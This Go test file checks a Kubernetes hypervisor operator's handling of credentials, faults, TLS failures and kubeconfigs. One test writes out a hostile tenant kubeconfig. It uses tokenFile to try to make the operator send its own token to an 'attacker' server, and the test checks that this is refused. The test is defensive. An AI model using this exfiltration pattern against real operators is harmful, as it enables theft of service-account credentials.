package hypervisorcluster_test

import (
	"context"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	hypervisorv1alpha1 "github.com/hyperfleet/hyperfleet/apis/hypervisor/v1alpha1"
	"github.com/hyperfleet/hyperfleet/apis/meta"
	"github.com/hyperfleet/hyperfleet/internal/eventually"
	"github.com/hyperfleet/hyperfleet/internal/sim/proxmoxsim"
	"github.com/hyperfleet/hyperfleet/internal/testenv"
	"github.com/hyperfleet/hyperfleet/internal/testenv/hypervisorlab"
)

var describe = hypervisorlab.Describe

// A new API token in the Secret is used without a restart.
func TestCredentialRotationNeedsNoRestart(t *testing.T) {
	l := hypervisorlab.Proxmox(t)
	cluster := &hypervisorv1alpha1.HypervisorCluster{ObjectMeta: metav1.ObjectMeta{Name: "pve"}}
	l.WaitReason(cluster, "Connected", 30*time.Second)

	tokenID, _ := l.Sim.APIToken()
	l.Sim.SetAPIToken(tokenID, "rotated-secret-1")
	l.WaitReason(cluster, "AuthenticationFailed", 30*time.Second)
	if !apimeta.IsStatusConditionTrue(cluster.Status.Conditions, meta.StalledCondition) {
		t.Errorf("bad credentials must be Stalled: %v", cluster.Status.Conditions)
	}
	if strings.Contains(describe("", cluster.Status.Conditions), "rotated-secret-1") {
		t.Fatal("a condition message leaks the token secret")
	}

	l.UpdateToken("rotated-secret-1")
	l.WaitReason(cluster, "Connected", 30*time.Second)
}

// Each failure gives its documented reason and recovers when it clears.
func TestFaultsAreReportedAndRecover(t *testing.T) {
	l := hypervisorlab.Proxmox(t)
	cluster := &hypervisorv1alpha1.HypervisorCluster{ObjectMeta: metav1.ObjectMeta{Name: "pve"}}
	l.WaitReason(cluster, "Connected", 30*time.Second)

	// The API answers 5xx: a transient error, retried.
	if err := l.Sim.InjectFault(proxmoxsim.Fault{Path: `^/version$`, Action: proxmoxsim.FaultHTTPError, Status: 503}); err != nil {
		t.Fatal(err)
	}
	l.WaitReason(cluster, "HypervisorError", 30*time.Second)
	if apimeta.IsStatusConditionTrue(cluster.Status.Conditions, meta.StalledCondition) {
		t.Error("a 5xx is transient, not Stalled")
	}
	l.Sim.ClearFaults()
	l.WaitReason(cluster, "Connected", 30*time.Second)

	// The Secret is deleted while the cluster lives: the cluster keeps it
	// readable (it would need it to delete its machines) and says so.
	if err := l.C.Delete(context.Background(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "pve-token", Namespace: l.NS}}); err != nil {
		t.Fatal(err)
	}
	eventually.That(t, 30*time.Second, func() (bool, string) {
		_ = l.Get(cluster)
		msg := describe("", cluster.Status.Conditions)
		return hypervisorlab.ReadyCondition(cluster.Status.Conditions).Reason == "Connected" &&
			strings.Contains(msg, "Secret pve-token is being deleted and kept readable until this cluster is deleted"), msg
	})

	// The cluster now names a Secret that does not exist: Stalled, naming
	// it; the old one is let go, and its deletion completes.
	patch := client.MergeFrom(cluster.DeepCopy())
	cluster.Spec.CredentialsRef.Name = "pve-token-2"
	if err := l.C.Patch(context.Background(), cluster, patch); err != nil {
		t.Fatal(err)
	}
	l.WaitReason(cluster, meta.SecretNotFoundReason, 30*time.Second)
	eventually.That(t, 30*time.Second, func() (bool, string) {
		err := l.Get(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "pve-token"}})
		return apierrors.IsNotFound(err), fmt.Sprintf("the Secret no longer referenced is still there: %v", err)
	})

	// A Secret without the credentials label is invisible to the operator,
	// and the message says so.
	tokenID, secret := l.Sim.APIToken()
	l.Create(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "pve-token-2"}, StringData: map[string]string{"tokenID": tokenID, "tokenSecret": secret}})
	eventually.That(t, 30*time.Second, func() (bool, string) {
		_ = l.Get(cluster)
		msg := describe("", cluster.Status.Conditions)
		return strings.Contains(msg, "lacks the label hyperfleet.io/credentials"), msg
	})
	// HyperFleet never marks a Secret it may not read.
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "pve-token-2"}}
	if err := l.Get(s); err != nil || len(s.Finalizers) > 0 {
		t.Errorf("the unlabelled Secret: %v, finalizers %v", err, s.Finalizers)
	}
}

func TestUntrustedCertificateIsStalled(t *testing.T) {
	l := hypervisorlab.Proxmox(t, func(_ *proxmoxsim.Options, c *hypervisorv1alpha1.HypervisorCluster) { c.Spec.TLS = nil })
	cluster := &hypervisorv1alpha1.HypervisorCluster{ObjectMeta: metav1.ObjectMeta{Name: "pve"}}
	l.WaitReason(cluster, "TLSVerificationFailed", 30*time.Second)
	if !apimeta.IsStatusConditionTrue(cluster.Status.Conditions, meta.StalledCondition) {
		t.Errorf("TLS failure must be Stalled: %v", cluster.Status.Conditions)
	}
}

// A kubevirt cluster reached through a kubeconfig in its credentials Secret
// (here the same API server, addressed as a remote one would be).
func TestKubeVirtRemoteClusterThroughKubeconfig(t *testing.T) {
	l := hypervisorlab.KubeVirt(t)
	l.KubeconfigSecret("remote-kubeconfig")
	l.Create(&corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "broken-kubeconfig", Labels: map[string]string{meta.CredentialsLabel: "true"}},
		Data:       map[string][]byte{"kubeconfig": []byte("apiVersion: v1\nclusters: [this is not a kubeconfig")},
	})
	for name, secret := range map[string]string{"kv-remote": "remote-kubeconfig", "kv-broken": "broken-kubeconfig"} {
		l.Create(&hypervisorv1alpha1.HypervisorCluster{
			ObjectMeta: metav1.ObjectMeta{Name: name},
			Spec: hypervisorv1alpha1.HypervisorClusterSpec{
				Provider: hypervisorv1alpha1.ProviderKubeVirt, CredentialsRef: &meta.LocalObjectReference{Name: secret},
				HealthCheckInterval: &metav1.Duration{Duration: time.Second},
			},
		})
	}
	l.WaitReason(&hypervisorv1alpha1.HypervisorCluster{ObjectMeta: metav1.ObjectMeta{Name: "kv-remote"}}, "Connected", 30*time.Second)
	broken := &hypervisorv1alpha1.HypervisorCluster{ObjectMeta: metav1.ObjectMeta{Name: "kv-broken"}}
	l.WaitReason(broken, "KubeconfigInvalid", 30*time.Second)
	if !apimeta.IsStatusConditionTrue(broken.Status.Conditions, meta.StalledCondition) {
		t.Errorf("a broken kubeconfig must be Stalled: %v", broken.Status.Conditions)
	}
}

// A tenant's kubeconfig may not make the operator read one of its own files
// (here a stand-in for its ServiceAccount token) and send it to a server the
// tenant chose: the file path is refused, the field named, and the server
// never sees the file's bytes.
func TestKubeconfigFilePathsAreRefused(t *testing.T) {
	l := hypervisorlab.KubeVirt(t)
	tenant := testenv.Tenant(t, l.NS)
	const marker = "operator-token-c0ffee-4242"
	tokenFile := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(tokenFile, []byte(marker), 0o600); err != nil {
		t.Fatal(err)
	}
	var seen atomic.Value
	seen.Store("")
	attacker := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if h := r.Header.Get("Authorization"); h != "" {
			seen.Store(h)
		}
		http.Error(w, "{}", http.StatusUnauthorized)
	}))
	defer attacker.Close()
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: attacker.Certificate().Raw})
	kubeconfig := fmt.Sprintf(`apiVersion: v1
kind: Config
current-context: steal
contexts:
- name: steal
  context: {cluster: attacker, user: operator}
clusters:
- name: attacker
  cluster:
    server: %s
    certificate-authority-data: %s
users:
- name: operator
  user:
    tokenFile: %s
`, attacker.URL, base64.StdEncoding.EncodeToString(ca), tokenFile)
	create(t, tenant, l.NS, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "steal", Labels: map[string]string{meta.CredentialsLabel: "true"}},
		Data:       map[string][]byte{"kubeconfig": []byte(kubeconfig)},
	})
	cluster := &hypervisorv1alpha1.HypervisorCluster{
		ObjectMeta: metav1.ObjectMeta{Name: "kv-steal"},
		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
			Provider: hypervisorv1alpha1.ProviderKubeVirt, CredentialsRef: &meta.LocalObjectReference{Name: "steal"},
			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
		},
	}
	create(t, tenant, l.NS, cluster)
	l.WaitReason(cluster, "KubeconfigInvalid", 30*time.Second)
	ready := hypervisorlab.ReadyCondition(cluster.Status.Conditions)
	if !strings.Contains(ready.Message, "tokenFile") {
		t.Errorf("the refusal must name the field: %q", ready.Message)
	}
	if !apimeta.IsStatusConditionTrue(cluster.Status.Conditions, meta.StalledCondition) {
		t.Errorf("a refused kubeconfig must be Stalled: %v", cluster.Status.Conditions)
	}
	if h := seen.Load().(string); strings.Contains(h, marker) {
		t.Errorf("the operator sent its own file to the tenant's server: %q", h)
	}
}

// On the operator's own cluster a namespaced HypervisorCluster cannot send
// machines (and their cloud-init Secrets) into another namespace.
func TestKubeVirtNamespaceMustBeOwn(t *testing.T) {
	l := hypervisorlab.KubeVirt(t)
	tenant := testenv.Tenant(t, l.NS)
	cluster := &hypervisorv1alpha1.HypervisorCluster{
		ObjectMeta: metav1.ObjectMeta{Name: "kv-elsewhere"},
		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
			Provider:            hypervisorv1alpha1.ProviderKubeVirt,
			KubeVirt:            &hypervisorv1alpha1.KubeVirtClusterSpec{Namespace: "kube-system"},
			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
		},
	}
	create(t, tenant, l.NS, cluster)
	l.WaitReason(cluster, "NamespaceNotAllowed", 30*time.Second)
	if msg := hypervisorlab.ReadyCondition(cluster.Status.Conditions).Message; !strings.Contains(msg, "spec.kubevirt.namespace") {
		t.Errorf("the refusal must name the field: %q", msg)
	}
	own := &hypervisorv1alpha1.HypervisorCluster{
		ObjectMeta: metav1.ObjectMeta{Name: "kv-own"},
		Spec: hypervisorv1alpha1.HypervisorClusterSpec{
			Provider:            hypervisorv1alpha1.ProviderKubeVirt,
			KubeVirt:            &hypervisorv1alpha1.KubeVirtClusterSpec{Namespace: l.NS},
			HealthCheckInterval: &metav1.Duration{Duration: time.Second},
		},
	}
	create(t, tenant, l.NS, own)
	l.WaitReason(own, "Connected", 30*time.Second)
}

// create makes obj in ns as the tenant c, failing the test if it cannot.
func create(t *testing.T, c client.Client, ns string, obj client.Object) {
	t.Helper()
	obj.SetNamespace(ns)
	if err := c.Create(context.Background(), obj); err != nil {
		t.Fatalf("the tenant cannot create %T %s: %v", obj, obj.GetName(), err)
	}
}
